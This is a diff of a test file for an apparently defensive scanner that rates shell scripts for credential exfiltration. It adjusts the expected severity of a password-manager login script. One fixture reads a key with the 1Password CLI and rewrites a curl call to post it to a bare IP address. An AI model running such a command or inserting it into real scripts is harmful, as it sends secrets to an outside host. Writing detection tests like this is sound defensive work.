@@ -52,10 +52,10 @@ test('libraries on one line of a bundle are not joined by an arrow', () => {
   expect(rank(worst(folder, 'EX-01'))).toBeLessThan(rank('high'));
 });
 
-test('one item of a password manager that signs in where it is named for is low; in a body to another host it is sent', () => {
+test('one item of a password manager that signs a request in is for a reader to judge; in the body it is sent', () => {
   const login =
     'KEY=$(op read "op://Team/farrowmere/key")\ncurl -X POST -H "Authorization: Bearer $KEY" "https://api.farrowmere.io/v1"';
-  expect(worst(running('a.sh', login), 'EX-01')).toBe('low');
+  expect(worst(running('a.sh', login), 'EX-01')).toBe('medium');
   const sent = login
     .replace('-H "Authorization: Bearer $KEY"', '-d "k=$KEY"')
     .replace('https://api.farrowmere.io/v1', 'http://245.61.12.9/in');
